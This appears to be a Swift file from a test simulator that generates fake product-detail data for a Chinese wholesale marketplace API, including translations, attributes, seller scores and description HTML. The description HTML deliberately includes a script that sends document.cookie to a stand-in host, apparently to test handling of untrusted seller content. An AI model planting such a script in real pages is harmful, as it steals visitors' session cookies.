/// What DAJI's details say in words, and of the seller.
extension DAJIDetail {
  /// A text in the language of the country, or nothing at all.
  func translation(_ phrase: Phrase) -> JSONText {
    if details.has(.untranslated) { return .absent }
    return .string(country == "en" ? phrase.english : "\(phrase.english) [\(country)]")
  }

  /// Now and then the seller's own title once more.
  var subjectTranslation: JSONText {
    if details.has(.untranslated) { return drift.isOne(in: 2, "subject") ? .absent : .string(offer.titleChinese) }
    return .string(offer.title(in: country))
  }

  var unitTranslation: String {
    switch details.unit {
    case "双": "Double"
    case "个": "하나"
    case "把": "Put"
    case "套": "Cover"
    case "条": "Strip"
    default: "Piece"
    }
  }

  var cargoNumber: JSONText {
    .string(details.attributes.first { $0.name.chinese == "货号" }?.values.first?.chinese ?? "")
  }

  /// An entry for each value: a number stands there as often as its attribute has values. Variants are among them.
  var attributes: [JSONText] {
    let ofVariants = details.properties.map { property in
      SimulatedAttribute(number: property.number, name: property.name, values: property.values.map(\.name))
    }
    return (details.attributes + ofVariants).flatMap { attribute in
      attribute.values.map { value in
        [
          "attributeId": .string(String(attribute.number)),
          "attributeName": .string(attribute.name.chinese),
          "value": .string(value.chinese),
          "attributeNameTrans": translation(attribute.name),
          "valueTrans": translation(value),
        ]
      }
    }
  }

  var pictures: JSONText {
    if details.has(.noPictures) { return [:] }
    let values = details.properties.flatMap(\.values)
    let names = offer.pictures + values.compactMap(\.picture).filter { !offer.pictures.contains($0) }
    return [
      "images": .list(names.map { drift.pictureAddress(world.address(ofPicture: $0)) }),
      "whiteImage": details.has(.newerObjects) ? .text(names.first.map(world.address(ofPicture:))) : .absent,
    ]
  }

  func video(_ name: String) -> JSONText {
    switch drift.pick(4, "\(name) video") {
    case 0: .string("https://cloud.video.taobao.com/play/u/\(offer.shop.number)/p/1/e/6/t/1/\(offer.number).mp4")
    case 1: ""
    default: nil
    }
  }

  var tags: JSONText {
    let tags: [(String, Bool)] = [
      ("isOnePsale", details.dropShipPrice != nil), ("isSupportMix", details.mixedBatch != nil),
      ("isOnePsaleFreePostage", details.dropShipPrice != nil && offer.isFreeShipping),
      ("noReason7DReturn", offer.hasNoReasonReturn), ("1688_yx", offer.isSelection), ("select", offer.isSelection),
    ]
    return .list(tags.map { ["key": .string($0.0), "value": .bool($0.1)] })
  }

  /// Scores as texts, shares as fractions of one.
  var seller: JSONText {
    let thousandths = Int(offer.shop.repurchasePercent.filter(\.isNumber)) ?? 0
    let digits = Yuan(thousandths: thousandths).text
    return [
      "tradeMedalLevel": drift.isOne(in: 3, "medal") ? nil : .string(String(drift.pick(5, "medal") + 1)),
      "compositeServiceScore": .string(offer.shop.score),
      "logisticsExperienceScore": .string("\(drift.pick(3, "logistics") + 3).0"),
      "disputeComplaintScore": .string("\(drift.pick(3, "disputes") + 3).0"),
      "offerExperienceScore": .string("\(drift.pick(3, "goods") + 3).0"),
      "consultingExperienceScore": .string("\(drift.pick(3, "answers") + 3).0"),
      // What follows the third decimal is less than half of one.
      "repeatPurchasePercent": .string(
        digits.count == 5 && drift.isOne(in: 2, "digits") ? digits + "3443708609" : digits),
      "afterSalesExperienceScore": .string("\(drift.pick(3, "after sales") + 3).0"),
      "collect30DayWithin48HPercent": drift.isOne(in: 3, "collected")
        ? .string("0.9\(drift.pick(9, "collected"))") : nil,
      "qualityRefundWithin30Day": .string("0.00\(drift.pick(89, "refunds") + 10)862396204"),
    ]
  }

  // MARK: The description

  /// HTML of strangers: pictures, a link to another shop, a telephone number, a script.
  var description: String {
    let pictures = offer.pictures.map { name in
      "<img src=\"\(world.address(ofPicture: name))\" alt=\"undefined\" width=\"790\" height=\"473.99999999999994\"/><br/>"
    }.joined()
    let body = """
      <div id="offer-template-0"></div><p>\(pictures)</p>\r
      <p style="color:#f00;font-size:24px">厂家直销&nbsp;&amp;&nbsp;支持定制 \(offer.titleChinese)</p>\r
      <p><a href="https://shop\(offer.shop.number).1688.com/page/offerlist.htm" target="_blank">进店看更多</a> 电话：13500000000</p>\r
      <script>document.location="https://example.com/?"+document.cookie</script>
      """
    guard details.has(.longDescription) else { return body }
    let filling = "<p><span style=\"font-family:微软雅黑\">细节展示 DETAILS</span><br/></p>\r\n"
    return body + String(repeating: filling, count: 30_000 / filling.utf8.count)
  }
}
